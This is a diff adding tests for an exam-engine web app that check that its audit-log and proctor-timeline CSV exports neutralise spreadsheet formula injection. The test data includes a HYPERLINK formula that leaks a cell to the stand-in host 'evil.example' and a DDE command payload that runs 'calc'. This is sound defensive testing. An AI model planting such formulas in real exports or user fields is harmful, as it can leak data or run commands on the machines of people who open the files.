@@ -7,7 +7,9 @@ import io
 import itertools
 from collections.abc import Callable
 from datetime import UTC, datetime, timedelta
+from typing import Any
 
+from sqlalchemy import text
 from starlette.testclient import TestClient
 
 from examengine.accounts.service import UserView
@@ -97,3 +99,35 @@ def test_attempt_timelines_carry_their_hashes(program: Program, app_client: Test
     assert [(e["prev_hash"], e["hash"]) for e in as_json] == [(e["prev_hash"], e["hash"]) for e in events]
     as_csv = list(csv.DictReader(io.StringIO(app_client.get(f"/proctor/attempts/{attempt_id}?format=csv").text)))
     assert [r["hash"] for r in as_csv] == [e["hash"] for e in events]
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
+
+
+def test_the_audit_csv_disarms_formulas_in_names_and_subjects(
+    app_client: TestClient, make_user: Callable[..., UserView], services: Services
+) -> None:
+    ada = make_user("ada@example.org", "admin", name=FORMULA)
+    services.db.call(record, kind=AuditKind.ROLE_CHANGED, actor_id=ada.id, subject="@SUM(1+1)*cmd|' /C calc'!A0")
+    assert log_in(app_client, ada.email, TEST_PASSWORD).status_code == 303
+    downloaded = app_client.get("/admin/audit", params={"format": "csv"})
+    rows = list(csv.DictReader(io.StringIO(downloaded.text)))
+    named = [r for r in rows if r["actor_id"] == ada.id]
+    assert named and all(r["actor"] == "'" + FORMULA + " <ada@example.org>" for r in named)
+    assert [r["subject"] for r in rows if r["kind"] == "role_changed"] == ["'@SUM(1+1)*cmd|' /C calc'!A0"]
+    assert not any(cell.lstrip().startswith(("=", "+", "@")) for r in rows for cell in r.values())
+
+
+def test_the_timeline_csv_disarms_formulas_in_names(program: Program, app_client: TestClient) -> None:
+    candidate = program.candidates[0]
+
+    def rename(*, session: Any) -> None:
+        session.execute(text('UPDATE app_user SET name = :name WHERE id = :id'), {"name": FORMULA, "id": candidate.id})
+
+    program.services.db.call(rename)
+    _, sitting_id = program.exam(essay=False)
+    attempt_id = program.take(sitting_id, candidate, {"q1": "A"}, score=False)
+    assert log_in(app_client, program.admin.email, TEST_PASSWORD).status_code == 303
+    rows = list(csv.DictReader(io.StringIO(app_client.get(f"/proctor/attempts/{attempt_id}?format=csv").text)))
+    by_candidate = [r for r in rows if FORMULA in r["actor"]]
+    assert by_candidate and all(r["actor"] == "'" + FORMULA for r in by_candidate)
